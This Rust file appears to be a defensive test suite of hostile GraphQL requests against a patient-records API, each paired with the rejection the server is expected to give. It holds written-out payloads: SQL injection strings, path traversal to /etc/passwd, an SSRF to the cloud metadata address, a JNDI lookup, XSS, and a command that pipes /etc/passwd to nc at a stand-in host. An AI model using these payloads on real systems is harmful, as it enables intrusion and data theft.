//! Arguments: what reaches a resolver, and would like to reach more.

use serde_json::{Value, json};

use super::{
    Attack, BAD_INPUT, BAD_REQUEST,
    End::{Answered, Declined, Failed, Refused},
    PARSE, VALIDATION,
};

const BAD_CURSOR: &str = "BAD_CURSOR";

pub fn attacks() -> Vec<Attack> {
    let patient = |name, id: &str, end| {
        let request = json!({ "query": "query($id:ID!){patient(id:$id){id}}", "variables": { "id": id } });
        Attack::request(name, request, end)
    };
    let after = |name, cursor: &str| {
        let query = "query($after:Cursor){patients(after:$after){totalCount nodes{id}}}";
        Attack::request(name, json!({ "query": query, "variables": { "after": cursor } }), Failed(BAD_CURSOR))
    };
    let search = |name, search: Value, end| {
        let query = "query($search:PatientSearch){patients(search:$search){nodes{id}}}";
        Attack::request(name, json!({ "query": query, "variables": { "search": search } }), end)
    };
    let sign_in = |name, organization: &str, email: &str, password: &str| {
        let query = "mutation($input:SignInInput!){signIn(input:$input){result{token} userErrors{code}}}";
        let input = json!({ "organization": organization, "email": email, "password": password });
        Attack::request(
            name,
            json!({ "query": query, "variables": { "input": input } }),
            Declined("INVALID_CREDENTIALS"),
        )
    };
    let injection = "DVGA: SQL Injection";
    vec![
        patient("an id of 60 KB", &"0".repeat(60_000), Failed(BAD_INPUT)),
        patient("an id of bytes beyond ASCII", &"\u{1f600}".repeat(9_000), Failed(BAD_INPUT)),
        patient("an id that ends the statement", "'; drop table patients; --", Failed(BAD_INPUT))
            .from(injection),
        patient("an id that is always true", "' or '1'='1", Failed(BAD_INPUT)).from(injection),
        patient("an id that is a path", "../../../../etc/passwd", Failed(BAD_INPUT))
            .from("DVGA: Arbitrary File Write // Path Traversal"),
        patient(
            "an id that is an address within",
            "http://169.254.169.254/latest/meta-data/",
            Failed(BAD_INPUT),
        )
        .from("DVGA: Server Side Request Forgery"),
        patient("an id that is a command", "; cat /etc/passwd | nc 203.0.113.1 80", Failed(BAD_INPUT))
            .from("DVGA: OS Command Injection #1"),
        patient("an id that is a script", "<script>alert(1)</script>", Failed(BAD_INPUT))
            .from("DVGA: Stored Cross Site Scripting"),
        patient("an id that is markup", "<h1>hello</h1>", Failed(BAD_INPUT)).from("DVGA: HTML Injection"),
        patient("an id that asks for a look-up", "${jndi:ldap://203.0.113.1/a}", Failed(BAD_INPUT)),
        patient("the nil id", "00000000-0000-0000-0000-000000000000", Answered),
        patient("an id in braces", "{01926b3e-7d4c-7a50-8f2e-5b1c9d0a6e77}", Answered),
        Attack::document("a list of ids", r#"{patient(id:["a","b"]){id}}"#, Refused(VALIDATION, "")),
        Attack::document(
            "an id that is a number of 400 digits",
            format!("{{patient(id:{}){{id}}}}", "9".repeat(400)),
            Refused(PARSE, "column 13"),
        ),
        Attack::document(
            "a page of 2,147,483,647",
            "{patients(first:2147483647){totalCount}}",
            Failed(BAD_INPUT),
        ),
        Attack::document("a page of nothing", "{patients(first:0){totalCount}}", Failed(BAD_INPUT)),
        Attack::document(
            "a page of 400 digits",
            format!("{{patients(first:{}){{totalCount}}}}", "9".repeat(400)),
            Refused(PARSE, "column 17"),
        ),
        Attack::document(
            "a page of 1e400",
            "{patients(first:1e400){totalCount}}",
            Refused(PARSE, "column 17"),
        ),
        Attack::document(
            "a page of more than 32 bits",
            "{patients(first:2147483648){totalCount}}",
            Refused(VALIDATION, ""),
        ),
        after("a cursor of nothing", ""),
        after("a cursor of 60 KB", &"A".repeat(60_000)),
        after("a cursor that is no base64", "!!!"),
        after("a cursor of the right length without its seal", &"AQ".repeat(25)),
        after("a cursor that ends the statement", "'; drop table patients; --"),
        search("a search by all letters", json!({ "namePrefix": "%" }), Failed(BAD_INPUT)),
        search("a search of 60 KB", json!({ "namePrefix": "a".repeat(60_000) }), Answered),
        search("a search with a NUL", json!({ "namePrefix": "abc\u{0}" }), Refused(BAD_REQUEST, "NUL")),
        search(
            "a search in two ways at once",
            json!({ "namePrefix": "abc", "phone": "1" }),
            Refused(VALIDATION, ""),
        ),
        sign_in("a sign-in that ends the statement", "town' --", "' or 1=1 --", "x").from(injection),
        Attack {
            end: Refused(BAD_REQUEST, "NUL"),
            ..sign_in("a sign-in of an organization with a NUL", "town\u{0}", "a@town.example", "x")
        },
        sign_in("a sign-in with a password of 50 KB", "nowhere", "a@town.example", &"x".repeat(50_000)),
        sign_in("a sign-in with a common password", "nowhere", "admin@town.example", "changeme")
            .from("DVGA: GraphQL Query Weak Password Protection"),
        Attack::document(
            "a request id with a NUL in a filter",
            r#"{auditLogs(filter:{requestId:"a\u0000b"}){totalCount}}"#,
            Refused(PARSE, "NUL"),
        ),
        Attack::document(
            "moments at both ends of time",
            r#"{auditLogs(filter:{from:"0000-01-01T00:00:00Z",to:"9999-12-31T23:59:60-23:59"}){pageInfo{hasNextPage}}}"#,
            Answered,
        ),
    ]
}
